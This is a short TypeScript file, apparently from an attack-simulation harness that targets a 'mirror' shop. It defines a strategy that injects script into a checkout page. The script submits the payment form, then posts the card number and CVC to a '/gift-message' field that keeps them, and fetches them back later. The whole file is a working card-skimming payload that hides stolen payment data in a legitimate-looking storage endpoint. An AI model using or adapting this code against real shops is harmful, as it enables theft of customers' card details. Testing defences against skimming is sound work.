import type { Strategy } from '#scripts/attack/strategy';

/** First the payment, then the same values to a place that keeps them. */
export const afterPayment: Strategy = {
  name: 'after the payment',
  channel: 'later page',
  shops: ['mirror'],
  async run({ page }) {
    await page(`const sent = form(new FormData(document.querySelector('form.pay-form')));
      const paid = await post('/checkout/pay', sent).then(said, String);
      const kept = await post('/gift-message', form({ card_number: number, card_cvc: code }), json).then(said, String);
      return paid + kept;`);
    await page("return said(await fetch('/gift-message', { headers: json }))");
  },
};
